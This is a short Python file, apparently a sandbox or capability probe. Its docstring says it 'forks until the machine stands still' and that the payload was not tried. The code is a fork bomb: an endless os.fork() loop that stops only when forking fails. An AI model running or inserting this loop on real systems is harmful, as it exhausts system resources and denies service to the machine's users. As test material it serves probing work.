"""Forks until the machine stands still.

Expected: not-single-threaded
Payload: not tried: it would take the machine
"""

import os


async def main():
    while True:
        try:
            os.fork()
        except (OSError, RuntimeError):
            return "no"
